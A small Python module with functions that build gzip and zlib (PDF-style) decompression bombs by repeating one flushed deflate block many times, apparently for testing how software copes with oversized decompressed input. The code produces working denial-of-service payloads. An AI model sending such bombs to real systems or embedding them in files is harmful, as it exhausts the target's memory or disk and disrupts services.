"""Packed bytes that come to far more than they are: one packed block, many times over."""

import zlib


def gzip_bomb(block: bytes, times: int, *, opening: bytes = b"") -> bytes:
    """Return gzip of `opening` and so many copies of `block`; the block is packed once."""
    crc = zlib.crc32(opening)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    size = (len(opening) + times * len(block)) % 2**32
    head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    return head + _packed(block, times, opening) + crc.to_bytes(4, "little") + (
        size.to_bytes(4, "little"))  # fmt: skip


def flate_bomb(block: bytes, times: int) -> bytes:
    """Return the same in zlib's format, as PDF holds it."""
    sums = zlib.adler32(b"")
    for _ in range(times):
        sums = zlib.adler32(block, sums)
    return b"\x78\x9c" + _packed(block, times, b"") + sums.to_bytes(4, "big")


def _packed(block: bytes, times: int, opening: bytes) -> bytes:
    pack = zlib.compressobj(6, wbits=-15)
    start = pack.compress(opening) + pack.flush(zlib.Z_FULL_FLUSH)
    # Behind a full flush a block stands alone: on a boundary of bytes, with nothing before it.
    repeated = pack.compress(block) + pack.flush(zlib.Z_FULL_FLUSH)
    return start + repeated * times + pack.flush()
